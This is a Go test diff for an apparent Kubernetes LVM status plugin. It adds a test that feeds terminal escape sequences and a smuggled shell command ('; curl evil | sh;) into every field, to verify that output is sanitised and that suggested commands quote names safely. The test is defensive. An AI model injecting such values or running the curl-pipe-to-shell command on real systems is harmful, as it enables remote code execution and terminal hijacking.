@@ -4,6 +4,9 @@ import (
 	"bytes"
 	"encoding/json"
 	"errors"
+	"io"
+	"net/http"
+	"net/http/httptest"
 	"strings"
 	"testing"
 	"unicode"
@@ -36,13 +39,13 @@ func everythingOf(page statuspage.Page) (text string, lines int, err error) {
 	f.answers[0].page = page
 	rows := volumeRowsOf(f.volumes, usersOf(podsOfShop()), f.answers)
 	left := leftRows("node-1", f.volumes, usersOf(podsOfShop()), f.contents, f.answers[0])
-	orphans := newOrphanClassifier(f.volumes, f.contents, claimsOfShop()).rows(f.answers)
+	orphans := orphanRows(f.answers)
 	var reports []nodeReport
 	for _, a := range f.answers {
 		reports = append(reports, reportOf(a))
 	}
 	var out bytes.Buffer
-	for _, t := range []*table{nodeTable(reports, true), volumeTable(rows, true), leftTable(left), orphanTable(orphans, true)} {
+	for _, t := range []*table{nodeTable(reports, true), volumeTable(rows, true), leftTable(left), orphanTable(orphans, now, true)} {
 		err = errors.Join(err, t.write(&out, 0, false), t.write(&out, 80, false))
 		lines += 2 * (1 + len(t.rows))
 	}
@@ -91,4 +94,59 @@ func FuzzBytes(f *testing.F) {
 			t.Errorf("%d of %d is %q", used, size, text)
 		}
 	})
+}
+
+// hostile is what the holder of a node's token may let its driver answer: text that commands a terminal or hides part of a line, and
+// names that are commands.
+const hostile = "a\u009b2J\u202e\x1b]0;x\x07\n'; curl evil | sh; '"
+
+// TestHostilePage: neither format passes on what commands a terminal, and no command that the plugin suggests executes a name.
+func TestHostilePage(t *testing.T) {
+	page := soundPage("node-1", vg1, inventory.Volume{ID: vg1 + "/x", Group: hostile, LV: hostile, Claim: hostile, State: hostile, Layout: hostile})
+	g := &page.Groups[0]
+	g.Name, g.Tags, g.Problem, g.AutoActivation, g.LockHeldSeconds, g.Pools[0].Name, g.Pools[0].Zero = hostile, []string{hostile}, hostile, true, 600, hostile, false
+	page.Volumes[0].Pool, page.Checks.Kubelet.Path, page.Checks.Kubelet.Propagation = hostile, hostile, statuspage.PropagationSlave
+	page.Classes[0].Offers[0].Group = hostile
+	page.Findings = []statuspage.Finding{{Trouble: hostile, Group: hostile, Text: hostile}}
+	page.Comparison.Unreferenced = []statuspage.Unreferenced{{Reason: hostile, Group: hostile, LV: hostile, FormerClaim: hostile, Text: hostile}}
+	text, err := json.Marshal(page)
+	if err != nil {
+		t.Fatal(err)
+	}
+	driver := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(text) }))
+	defer driver.Close()
+	reply, err := driver.Client().Get(driver.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = reply.Body.Close() }()
+	f := sound()
+	if f.answers[0].page, err = readPage("nodelvm-node-1", reply); err != nil {
+		t.Fatal(err)
+	}
+	found := examine(f)
+	for _, format := range []string{"json", "yaml", ""} {
+		var out bytes.Buffer
+		s := settings{format: format}
+		for _, data := range []any{reportOf(f.answers[0]), volumeRowsOf(f.volumes, nil, f.answers), orphanRows(f.answers), found} {
+			if err := s.print(&out, data, func(w io.Writer, s screen) error { return found.write(w, s) }); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if strings.ContainsFunc(out.String(), func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) {
+			t.Errorf("-o %q prints %q", format, out.String())
+		}
+	}
+	commands := 0
+	for _, x := range found.Findings {
+		if strings.Contains(x.Fix, "curl") {
+			commands++
+			if !strings.Contains(x.Fix, `\n'\''; curl evil | sh; '\'''`) {
+				t.Errorf("the suggestion executes a name: %s", x.Fix)
+			}
+		}
+	}
+	if commands < 4 {
+		t.Errorf("only %d suggestions have the name: %+v", commands, found.Findings)
+	}
 }
